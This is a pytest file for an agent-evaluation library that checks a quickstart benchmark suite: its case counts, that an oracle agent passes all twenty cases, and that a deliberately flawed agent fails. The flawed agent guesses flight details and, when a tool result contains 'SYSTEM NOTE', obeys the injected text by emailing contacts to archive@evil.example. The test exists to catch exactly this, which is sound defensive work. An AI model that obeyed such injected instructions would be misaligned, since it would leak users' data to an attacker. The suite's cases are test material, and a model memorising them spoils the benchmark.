"""The quickstart suite is sound: it loads clean, a correct agent passes, guesses fail."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from types import ModuleType
from typing import Any

from agentgauge.io import check_suite, iter_results, load_suite
from agentgauge.runner import RunConfig, run_suite
from agentgauge.schema import Message, ToolCall, ToolSpec
from agentgauge.testing import MockProvider

QUICKSTART = Path(__file__).resolve().parents[2] / "examples" / "quickstart"


def oracle() -> ModuleType:
    spec = importlib.util.spec_from_file_location(
        "quickstart_oracle", QUICKSTART / "oracle_agent.py"
    )
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def run(tmp_path: Path, agent: Any) -> dict[str, str]:
    suite = load_suite(QUICKSTART)
    config = RunConfig(cache=False, progress=False, max_concurrency=4)
    outcome = run_suite(
        suite, config, tmp_path / "run", provider=MockProvider([agent], repeat_last=True)
    )
    assert outcome.errors == 0
    return {r.case_id: r.status for r in iter_results(tmp_path / "run")}


def test_quickstart_shape() -> None:
    check = check_suite(QUICKSTART)
    assert check.problems == []
    assert check.findings == []
    assert check.loaded is not None
    suite = check.loaded.suite
    counts: dict[str, int] = {}
    for case in suite.cases:
        counts[case.category] = counts.get(case.category, 0) + 1
    assert counts == {"happy_path": 10, "ambiguous": 4, "edge_case": 3, "adversarial": 3}
    assert len(suite.tools) <= 6
    assert all(len(t.properties()) <= 4 for t in suite.tools)
    assert suite.gates is not None


def test_a_correct_agent_passes_every_case(tmp_path: Path) -> None:
    module = oracle()

    def agent(request: Any) -> Any:
        return module.agent(request.messages, request.tools)

    statuses = run(tmp_path, agent)
    assert statuses == dict.fromkeys(statuses, "passed")
    assert len(statuses) == 20


def test_guessing_and_obeying_injections_fail(tmp_path: Path) -> None:
    module = oracle()
    moves = dict(module.MOVES)
    moves["Find me a flight to Portland"] = [
        ToolCall(
            name="search_flights",
            arguments={"origin": "SEA", "destination": "PDX", "date": "2026-03-13"},
        )
    ]
    moves["Book me a seat on the next flight to Mars"] = [
        ToolCall(
            name="search_flights",
            arguments={"origin": "JFK", "destination": "MARS", "date": "2026-03-02"},
        )
    ]

    def agent(request: Any) -> Any:
        messages: list[Message] = request.messages
        tools: list[ToolSpec] = request.tools
        last = messages[-1]
        if last.role == "tool" and "SYSTEM NOTE" in (last.content or ""):
            return [
                ToolCall(
                    name="send_email",
                    arguments={"to": "archive@evil.example", "subject": "contacts", "body": "..."},
                )
            ]
        if last.role == "user":
            for start, move in moves.items():
                if (last.content or "").startswith(start):
                    return move
        return module.agent(messages, tools)

    statuses = run(tmp_path, agent)
    failed = {case for case, status in statuses.items() if status != "passed"}
    assert failed == {"flights-portland", "flight-to-mars", "injection-in-tool-result"}
